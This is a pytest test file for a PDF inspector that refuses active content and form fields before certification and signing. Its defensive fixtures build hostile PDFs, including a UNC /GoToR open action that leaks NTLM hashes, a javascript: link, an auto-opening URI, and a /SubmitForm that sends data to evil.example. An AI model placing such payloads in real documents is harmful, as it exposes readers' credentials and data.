"""Before certification, an uploaded text may hold internal and web links only, and no form field."""

from __future__ import annotations

import pytest

from convsign.pdf.errors import PdfRejected
from convsign.pdf.generation import render_convention
from convsign.pdf.inspection import inspect_pdf
from tests.unit.pdf import _attacks as attacks
from tests.unit.pdf import _documents as docs
from tests.unit.pdf.corpus import bad_files
from tests.unit.pdf.corpus.ctg_demo import demo_spec


def _link(action: bytes) -> bytes:
    return b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A %s >>] " % action


def unc_open_action() -> bytes:
    """Opening the document fetches a file from a Windows share (leaks the NTLM hash)."""
    action = b"/OpenAction << /S /GoToR /F (\\\\\\\\host\\\\share\\\\x.pdf) /D [0 /Fit] >> "
    return bad_files.simple_pdf(catalog_extra=action)


def page_additional_action() -> bytes:
    """Opening page 1 opens a web address by itself (/AA /O)."""
    return bad_files.simple_pdf(page_extra=b"/AA << /O << /S /URI /URI (https://example.org/t) >> >> ")


def javascript_link() -> bytes:
    return bad_files.simple_pdf(page_extra=_link(b"<< /S /URI /URI (javascript:alert\\(1\\)) >>"))


def embedded_html() -> bytes:
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 3 0 R >>"
    filespec = b"<< /Type /Filespec /F (a.html) /EF << /F 5 0 R >> >>"
    html = bad_files.stream(b"<html><body>Bonjour</body></html>").replace(b"<< ", b"<< /Type /EmbeddedFile ", 1)
    return bad_files.raw_pdf([
        b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(a.html) %s] >> >> >>" % filespec,
        b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
        bad_files.stream(bad_files.CONTENT),
        page,
        html,
    ])


def submit_chained_after_a_link() -> bytes:
    action = b"<< /S /URI /URI (https://example.org) /Next << /S /SubmitForm /F (https://evil.example) >> >>"
    return bad_files.simple_pdf(page_extra=_link(action))


def _refusal(pdf: bytes) -> PdfRejected:
    with pytest.raises(PdfRejected) as raised:
        inspect_pdf(pdf, max_bytes=10**7, max_pages=100, for_signing=True)
    return raised.value


@pytest.mark.parametrize(
    ("make", "action"),
    [
        (unc_open_action, "/GoToR"),
        (page_additional_action, "/AA"),
        (javascript_link, "/URI"),
        (embedded_html, "/EmbeddedFile"),
        (submit_chained_after_a_link, "/SubmitForm"),
    ],
)
def test_active_content_is_refused_before_signing(make: object, action: str) -> None:
    refused = _refusal(make())  # type: ignore[operator]
    assert (refused.code, refused.details["action"]) == ("active_content", action)


def test_uploaded_form_fields_are_refused_with_their_names() -> None:
    refused = _refusal(attacks.with_form_fields(docs.blank_pdf()))
    assert refused.code == "form_fields"
    assert refused.details["fields"] == ["clause", "montant"]


@pytest.mark.parametrize(
    "action",
    [
        b"<< /S /URI /URI (https://www.caf.fr/) >>",
        b"<< /S /URI /URI (mailto:ctg@caf.example) >>",
        b"<< /S /GoTo /D [4 0 R /Fit] >>",
    ],
)
def test_internal_web_and_mail_links_pass(action: bytes) -> None:
    info = inspect_pdf(bad_files.simple_pdf(page_extra=_link(action)), max_bytes=10**7, max_pages=100,
                       for_signing=True)
    assert info.page_count == 1


def test_generated_conventions_have_no_form_field_and_no_action() -> None:
    pdf = render_convention(demo_spec()).pdf
    inspect_pdf(pdf, max_bytes=10**8, max_pages=500, for_signing=True)
    assert attacks.field_names(pdf) == []


def test_the_blocklist_still_applies_when_verifying() -> None:
    # A signed foreign file with a web link under /AA is still read for verification.
    info = inspect_pdf(page_additional_action(), max_bytes=10**7, max_pages=100, allow_signed=True)
    assert info.page_count == 1


def test_the_work_deadline_refuses_a_file() -> None:
    import time

    with pytest.raises(PdfRejected) as raised:
        inspect_pdf(bad_files.simple_pdf(), max_bytes=10**7, max_pages=100, deadline=time.monotonic() - 1)
    assert raised.value.code == "too_slow"


def test_library_messages_are_one_line_without_traceback(capsys: pytest.CaptureFixture[str]) -> None:
    import logging

    import convsign.pdf.validation  # noqa: F401  (installs the one-line handler)

    try:
        raise ValueError("Failed to build path\nsecond line of detail")
    except ValueError:
        logging.getLogger("pyhanko.sign.validation.generic_cms").warning("Chemin introuvable", exc_info=True)
    err = capsys.readouterr().err
    assert err == (
        "WARNING pyhanko.sign.validation.generic_cms: Chemin introuvable (ValueError: Failed to build path)\n"
    )
